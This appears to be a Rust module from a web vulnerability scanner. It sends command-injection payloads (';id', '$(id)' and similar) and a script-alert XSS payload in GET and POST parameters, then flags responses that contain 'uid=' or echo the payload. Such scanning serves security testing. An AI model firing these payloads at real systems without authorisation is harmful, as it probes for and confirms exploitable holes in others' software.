use serde::Serialize;
use tracing::{info, warn};

use crate::client::{self, Fetcher};
use crate::session::ProbeMethod;

pub const CMD_INJECTION_PAYLOADS: [&str; 5] = [";id", "|| id", "& id", "`id`", "$(id)"];

/// Marker of Unix `id` output.
pub const CMD_INJECTION_SIGNATURE: &str = "uid=";

pub const DEFAULT_XSS_PAYLOAD: &str = "<script>alert('XSS')</script>";

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ExploitHit {
    pub method: ProbeMethod,
    pub url: String,
    pub param: String,
    pub payload: String,
}

/// Sends `payload` in `param` over GET and POST and keeps the requests whose body
/// satisfies `is_hit`. Request failures are logged and skipped.
async fn send_both<F>(
    fetcher: &Fetcher,
    url: &str,
    param: &str,
    payload: &str,
    is_hit: F,
) -> Vec<ExploitHit>
where
    F: Fn(&str) -> bool,
{
    let mut hits = Vec::new();

    let get_url = client::with_query_param(url, param, payload);
    match fetcher.get(&get_url).await {
        Ok(fetched) if is_hit(&fetched.body) => hits.push(ExploitHit {
            method: ProbeMethod::Get,
            url: get_url,
            param: param.to_string(),
            payload: payload.to_string(),
        }),
        Ok(_) => {}
        Err(e) => warn!(url = %get_url, error = %e, "error sending GET probe"),
    }

    match fetcher.post_form(url, &[(param, payload)]).await {
        Ok(fetched) if is_hit(&fetched.body) => hits.push(ExploitHit {
            method: ProbeMethod::Post,
            url: url.to_string(),
            param: param.to_string(),
            payload: payload.to_string(),
        }),
        Ok(_) => {}
        Err(e) => warn!(%url, error = %e, "error sending POST probe"),
    }

    hits
}

/// Tries each command-injection payload in `param`; a response containing `uid=` is a
/// hit. Nothing is sandboxed: the payloads run `id` on a vulnerable target.
pub async fn test_command_injection(fetcher: &Fetcher, url: &str, param: &str) -> Vec<ExploitHit> {
    let mut hits = Vec::new();
    for payload in CMD_INJECTION_PAYLOADS {
        let found = send_both(fetcher, url, param, payload, |body| {
            body.contains(CMD_INJECTION_SIGNATURE)
        })
        .await;
        for hit in found.iter() {
            info!(url = %hit.url, method = %hit.method, payload, "possible command injection");
        }
        hits.extend(found);
    }
    hits
}

/// Sends `payload` in `param`; a response echoing it unescaped is a hit.
pub async fn test_xss(fetcher: &Fetcher, url: &str, param: &str, payload: &str) -> Vec<ExploitHit> {
    let hits = send_both(fetcher, url, param, payload, |body| body.contains(payload)).await;
    for hit in hits.iter() {
        info!(url = %hit.url, method = %hit.method, "possible XSS");
    }
    hits
}
